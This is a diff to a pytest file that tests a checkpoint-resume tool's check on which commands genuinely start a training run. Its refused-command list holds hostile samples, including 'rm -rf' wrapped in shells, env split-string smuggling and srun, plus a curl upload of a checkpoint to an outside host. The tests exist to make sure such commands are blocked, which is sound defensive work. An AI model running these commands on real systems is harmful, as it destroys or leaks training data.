@@ -12,6 +12,7 @@ from msgspec import convert
 
 from runtriage.api.checkpoints import checkpoints
 from runtriage.launch.apply import apply
+from runtriage.launch.apply_start import starts_a_run
 from runtriage.model.report import Report
 from tests.cli.running import runtriage
 from tests.render.build import report as built
@@ -113,20 +114,8 @@ def test_an_unchanged_restart_starts_and_outlives_the_command(tmp_path: Path, mo
 
 
 def test_going_on_from_a_checkpoint_looks_at_it_again_first(tmp_path: Path) -> None:
-    folder = tmp_path / "run" / "checkpoint-10"
-    folder.mkdir(parents=True)
-    header = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
-    (folder / "model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + b"\0\0\x80\x3f")
-    (folder / "trainer_state.json").write_text(json.dumps({"global_step": 10, "log_history": []}), "utf-8")
+    report, folder = _resumable(tmp_path), tmp_path / "run" / "checkpoint-10"
     (tmp_path / "resume.sh").write_text(f'echo "$1" > {tmp_path}/resumed\n', "utf-8")
-    found = checkpoints(str(tmp_path / "run")).last_good
-    assert found is not None
-    content = json.loads(built().to_json())
-    content["target"] = str(tmp_path / "run")
-    content["checkpoints"] = [{"path": found.path, "last_good": True, "valid": True}]
-    content["plan"] = [{**RESTART, "action": "Point the run at checkpoint-10", "fix": None}]
-    report = convert(content, Report)
-
     journal = tmp_path / "applied.jsonl"
     resume = f"sh {tmp_path}/resume.sh {{checkpoint}}"
 
@@ -137,8 +126,73 @@ def test_going_on_from_a_checkpoint_looks_at_it_again_first(tmp_path: Path) -> N
 
     assert without.outcome == "refused" and "{checkpoint}" in without.said
     assert whole.outcome == "started", whole
-    assert spoilt.outcome == "refused" and found.path in spoilt.said
-    assert _content(tmp_path / "resumed") == f"{tmp_path / 'run' / found.path}\n"
+    assert spoilt.outcome == "refused" and report.checkpoints[0].path in spoilt.said
+    assert _content(tmp_path / "resumed") == f"{tmp_path / 'run' / report.checkpoints[0].path}\n"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "rm -rf {checkpoint}",
+        "/bin/rm -rf {checkpoint}",
+        "env A=1 rm -rf {checkpoint}",
+        "env -Srm python {checkpoint}",
+        "nohup env --split-string=rm python {checkpoint}",
+        "srun -l rm -rf python {checkpoint}",
+        "timeout 60 rm -rf {checkpoint}",
+        "sh -c 'rm -rf {checkpoint}'",
+        "bash -lc 'rm -rf {checkpoint}'",
+        "bash --rcfile start.sh -c 'rm -rf {checkpoint}'",
+        "python -c 'import shutil' {checkpoint}",
+        "python -W ignore -c 'import shutil' {checkpoint}",
+        "python {checkpoint} -c",
+        "torchrun --no-python rm -rf {checkpoint}",
+        "curl -T {checkpoint} https://example.org",
+        "mv train.py {checkpoint}",
+        "{checkpoint}",
+    ],
+)
+def test_a_command_that_is_no_start_of_a_run_is_refused(tmp_path: Path, command: str) -> None:
+    resumed, kept = _resumable(tmp_path), tmp_path / "run" / "checkpoint-10" / "model.safetensors"
+
+    done = apply(resumed, 1, command, tmp_path / "applied.jsonl")
+    again = apply(planned(**RESTART, command=command), 1, command, tmp_path / "applied.jsonl")
+
+    assert (done.outcome, again.outcome) == ("refused", "refused")
+    assert kept.exists()
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "python train.py --resume {checkpoint} -c a.yaml",
+        "python3.11 -u -m lab.train --resume {checkpoint}",
+        "torchrun --nproc_per_node 8 train.py --resume={checkpoint}",
+        "env NCCL_DEBUG=INFO python train.py {checkpoint}",
+        "srun -N 2 --gpus=8 python train.py {checkpoint}",
+        "uv run python train.py {checkpoint}",
+        "nohup timeout 2h bash -e start.sh {checkpoint}",
+        "sbatch job.sh {checkpoint}",
+    ],
+)
+def test_a_command_that_trains_is_known_as_a_start(command: str) -> None:
+    assert starts_a_run(command.split())
+
+
+def _resumable(place: Path) -> Report:
+    """Return the report of a run with a whole checkpoint, whose plan points the run at it."""
+    folder = place / "run" / "checkpoint-10"
+    folder.mkdir(parents=True)
+    header = json.dumps({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
+    (folder / "model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header + b"\0\0\x80\x3f")
+    (folder / "trainer_state.json").write_text(json.dumps({"global_step": 10, "log_history": []}), "utf-8")
+    found = checkpoints(str(place / "run")).last_good
+    assert found is not None
+    content = json.loads(built().to_json())
+    content["target"] = str(place / "run")
+    content["checkpoints"] = [{"path": found.path, "last_good": True, "valid": True}]
+    content["plan"] = [{**RESTART, "action": "Point the run at checkpoint-10", "fix": None}]
+    return convert(content, Report)
 
 
 def _content(path: Path) -> str:
